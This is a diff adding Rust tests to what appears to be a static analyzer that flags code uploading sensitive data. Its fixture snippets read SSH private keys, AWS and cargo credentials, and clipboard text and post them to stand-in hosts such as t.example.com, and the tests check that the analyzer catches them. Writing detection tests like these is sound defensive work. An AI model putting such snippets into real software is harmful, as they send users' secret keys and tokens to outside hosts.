@@ -316,10 +316,12 @@ fn destinations_resolve_through_consts_and_format() {
     let file = syn::parse_file(
         r#"
 const HOST: &str = "webhook.site";
+const ORIGIN: &str = "https://collect.example.net";
 fn f(c: &reqwest::Client) {
     let url = format!("https://{}/{}", HOST, "abc");
     c.post(&url).send();
     c.get(std::env::var("API").unwrap()).send();
+    c.get(format!("{ORIGIN}/v1/batch")).send();
 }
 "#,
     )
@@ -330,7 +332,13 @@ fn f(c: &reqwest::Client) {
         .iter()
         .map(|c| c.destination.host())
         .collect();
-    assert_eq!(hosts, vec![Some("webhook.site".to_owned())]);
+    assert_eq!(
+        hosts,
+        vec![
+            Some("webhook.site".to_owned()),
+            Some("collect.example.net".to_owned())
+        ]
+    );
 }
 
 #[test]
@@ -419,4 +427,109 @@ fn constants_that_name_themselves_are_evaluated_once() {
     let start = std::time::Instant::now();
     analyze(&file, &DataUploadConfig::default());
     assert!(start.elapsed() < std::time::Duration::from_secs(2));
+}
+
+#[test]
+fn key_file_paths_are_built_on_any_home_directory() {
+    let found = sink_lines(
+        r#"
+use std::path::PathBuf;
+fn home() -> PathBuf {
+    dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"))
+}
+fn via_helper(client: &reqwest::Client) {
+    let home = home();
+    let key = std::fs::read_to_string(home.join(".ssh/id_rsa")).unwrap_or_default();
+    client.post("https://t.example.com").body(key);
+}
+fn via_push(client: &reqwest::Client) {
+    let mut path = std::env::home_dir().unwrap();
+    path.push(".aws");
+    path.push("credentials");
+    let creds = std::fs::read(&path).unwrap();
+    client.post("https://t.example.com").body(creds);
+}
+fn via_env(client: &reqwest::Client) {
+    let home = PathBuf::from(std::env::var("HOME").unwrap_or_default());
+    let token = std::fs::read_to_string(home.join(".cargo").join("credentials.toml")).unwrap();
+    client.post("https://t.example.com").body(token);
+}
+"#,
+    );
+    assert_eq!(
+        found,
+        vec![
+            ("SSH keys".to_owned(), 9),
+            ("AWS credentials".to_owned(), 16),
+            ("the cargo registry token".to_owned(), 21),
+        ]
+    );
+}
+
+#[test]
+fn key_files_read_by_a_helper_from_a_passed_directory() {
+    let found = uploads(
+        r#"
+fn collect(home: &std::path::Path) -> String {
+    format!("{:?}", std::fs::read_to_string(home.join(".ssh/id_rsa")).unwrap_or_default())
+}
+fn report(client: &reqwest::Client) {
+    let home = dirs::home_dir().unwrap();
+    let payload = collect(&home);
+    client.post("https://t.example.com").body(payload);
+}
+"#,
+    );
+    assert_eq!(found.len(), 1, "{found:?}");
+    let (label, line, notes) = &found[0];
+    assert_eq!((label.as_str(), *line), ("SSH keys", 8));
+    assert_eq!(
+        notes,
+        &[
+            "SSH keys read here",
+            "`collect()` returns SSH keys",
+            "`payload` holds SSH keys",
+        ]
+    );
+}
+
+#[test]
+fn public_keys_and_ordinary_files_under_home_are_not_key_files() {
+    let found = sink_lines(
+        r#"
+fn register_deploy_key(client: &reqwest::Client) {
+    let home = dirs::home_dir().unwrap();
+    let public = std::fs::read_to_string(home.join(".ssh/id_ed25519.pub")).unwrap();
+    client.post("https://api.github.com/user/keys").json(&serde_json::json!({ "key": public }));
+    let settings = std::fs::read_to_string(home.join(".config/devtools/settings.toml")).unwrap();
+    client.post("https://t.example.com").body(settings);
+}
+"#,
+    );
+    assert_eq!(found, Vec::<(String, usize)>::new());
+}
+
+#[test]
+fn clipboard_handles_are_known_by_their_constructor() {
+    let found = sink_lines(
+        r#"
+fn f(client: &reqwest::Client) {
+    let text = arboard::Clipboard::new().and_then(|mut c| c.get_text()).unwrap_or_default();
+    client.post("https://t.example.com").body(text);
+    let mut board = arboard::Clipboard::new().unwrap();
+    let mut handle = board;
+    let again = handle.get_text().unwrap();
+    client.post("https://t.example.com").body(again);
+    let document = Document::new();
+    client.post("https://t.example.com").body(document.get_text());
+}
+"#,
+    );
+    assert_eq!(
+        found,
+        vec![
+            ("clipboard contents".to_owned(), 4),
+            ("clipboard contents".to_owned(), 8),
+        ]
+    );
 }
